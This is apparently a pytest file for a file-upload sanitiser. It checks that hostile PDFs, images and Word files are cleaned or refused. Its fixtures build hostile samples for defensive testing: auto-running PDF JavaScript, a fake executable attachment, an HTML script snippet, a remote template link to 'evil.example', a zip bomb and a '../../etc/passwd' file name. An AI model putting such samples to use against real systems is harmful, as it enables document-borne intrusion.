"""Files handed in: what hides in them is left behind or they are refused, and a giant is refused unread."""

from __future__ import annotations

import io
import struct
import zipfile
from collections.abc import Callable

import pytest
from docx import Document
from PIL import Image, ImageOps
from pypdf import PdfReader, PdfWriter
from pypdf.generic import ArrayObject, DictionaryObject, FloatObject, NameObject, TextStringObject

from xuncha.apps.casework.pictures import redrawn
from xuncha.apps.casework.taking_files import (
    MOST_BYTES,
    MOST_IN_ALL,
    FileRefusedError,
    safe_form,
    shown_name,
    takes_files,
)
from xuncha.apps.casework.uploads import bound_of


def script(words: str) -> DictionaryObject:
    return DictionaryObject(
        {NameObject("/S"): NameObject("/JavaScript"), NameObject("/JS"): TextStringObject(words)}
    )


def hostile_pdf() -> bytes:
    """Two pages of different size with scripts everywhere, an attached program and an author."""
    writer = PdfWriter()
    for size in ((200, 300), (400, 250)):
        page = writer.add_blank_page(*size)
        page[NameObject("/AA")] = DictionaryObject({NameObject("/O"): script("page()")})
    link = DictionaryObject(
        {
            NameObject("/Type"): NameObject("/Annot"),
            NameObject("/Subtype"): NameObject("/Link"),
            NameObject("/Rect"): ArrayObject([FloatObject(n) for n in (0, 0, 90, 90)]),
            NameObject("/A"): script("link()"),
        }
    )
    writer.add_annotation(0, link)
    writer.root_object[NameObject("/OpenAction")] = script("open()")
    writer.add_attachment("x.exe", b"MZ" * 50)
    writer.add_metadata({"/Author": "某某"})
    made = io.BytesIO()
    writer.write(made)
    return made.getvalue()


def office(*extra: tuple[str, bytes]) -> bytes:
    made = io.BytesIO()
    document = Document()
    document.add_paragraph("整改报告")
    document.save(made)
    with zipfile.ZipFile(made, "a", zipfile.ZIP_DEFLATED) as parts:
        for name, content in extra:
            parts.writestr(name, content)
    return made.getvalue()


def test_of_a_pdf_only_what_is_to_be_seen_is_kept() -> None:
    kind, kept = safe_form(hostile_pdf())
    read = PdfReader(io.BytesIO(kept))
    assert kind == "pdf"
    assert [tuple(map(float, page.mediabox[2:])) for page in read.pages] == [(200, 300), (400, 250)]
    assert not read.attachments
    assert "/OpenAction" not in read.root_object
    assert all("/AA" not in page and "/Annots" not in page for page in read.pages)
    assert b"JavaScript" not in kept
    assert "/Author" not in (read.metadata or {})


def test_a_picture_is_drawn_anew(a_picture: Callable[..., bytes]) -> None:
    kind, kept = safe_form(a_picture("PNG") + b"<script>")
    assert (kind, kept[:2]) == ("jpg", b"\xff\xd8")
    assert b"script" not in kept


def notes_of_a_camera(kind: int) -> bytes:
    """Exif: turned to the right, and a resolution of a kind (2: text) that no resolution is of."""
    entries = ((0x0112, 3, 1, b"\6\0\0\0"), (0x011A, kind, 4, b"abc\0"))
    said = b"".join(struct.pack("<HHI4s", *entry) for entry in entries)
    return b"Exif\0\0II*\0\x08\0\0\0" + struct.pack("<H", 2) + said + b"\0\0\0\0"


@pytest.mark.parametrize("kind", [1, 2, 4, 7])
def test_a_picture_is_upright_whatever_else_its_camera_noted(
    a_picture: Callable[..., bytes], kind: int
) -> None:
    content, *size = redrawn(a_picture(exif=notes_of_a_camera(kind)))
    assert size == [30, 60]
    assert b"Exif" not in content


@pytest.mark.parametrize("turn", range(1, 9))
def test_every_way_to_hold_a_camera(turn: int) -> None:
    drawn, exif, file = Image.new("L", (64, 32)), Image.Exif(), io.BytesIO()
    drawn.paste(255, (0, 0, 16, 16))  # one corner is white
    exif[0x0112] = turn
    drawn.save(file, "PNG", exif=exif)
    content, width, height = redrawn(file.getvalue())
    expected = ImageOps.exif_transpose(Image.open(file)).convert("L")
    made = Image.open(io.BytesIO(content)).convert("L")
    assert (width, height) == expected.size
    corners = [(x, y) for x in (4, width - 4) for y in (4, height - 4)]
    assert [made.getpixel(at) > 127 for at in corners] == [expected.getpixel(at) > 127 for at in corners]


def test_a_plain_document_is_kept_as_it_came() -> None:
    plain = office()
    assert safe_form(plain) == ("docx", plain)


_TEMPLATE = (
    b'<Relationships><Relationship Id="r1" Type="http://x/relationships/attachedTemplate"'
    b' Target="http://evil.example/t.dotm" TargetMode="External"/></Relationships>'
)


@pytest.mark.parametrize(
    ("content", "words"),
    [
        (b"", "空"),
        (b"MZ\x90\x00", "只接受"),
        (b"<html><script>alert(1)</script>", "只接受"),
        (b"%PDF-1.7 junk", "PDF"),
        (b"PK\x03\x04junk", "损坏"),
        (office(("word/vbaProject.bin", b"x")), "宏"),
        (office(("word/embeddings/oleObject1.bin", b"x")), "宏或嵌入"),
        (office(("word/_rels/settings.xml.rels", _TEMPLATE)), "外部"),
        (office(("word/media/bomb", b"\0" * (201 << 20))), "太大"),
        (b"\xff\xd8" + b"\0" * MOST_BYTES, "超过 15 MB"),
    ],
    ids=["empty", "program", "page", "torn pdf", "torn zip", "macro", "object", "template", "bomb", "giant"],
)
def test_what_is_hostile_is_refused(content: bytes, words: str) -> None:
    with pytest.raises(FileRefusedError, match=words):
        safe_form(content)


def test_a_form_for_pictures_takes_no_document() -> None:
    with pytest.raises(FileRefusedError, match="只接受完好的图片"):
        safe_form(office(), only_pictures=True)


@pytest.mark.parametrize(
    ("name", "shown"),
    [
        ("../../etc/passwd", "passwd"),
        ("c:\\x\\报告.docx", "报告"),
        ("a\r\nb.pdf", "ab"),
        ("", "文件"),
        ("长" * 300, "长" * 80),
    ],
)
def test_a_name_is_only_a_name(name: str, shown: str) -> None:
    assert shown_name(name) == shown


def test_a_view_of_files_says_how_much() -> None:
    assert bound_of(takes_files(lambda request: None), may_open=True, known=False) >= MOST_IN_ALL
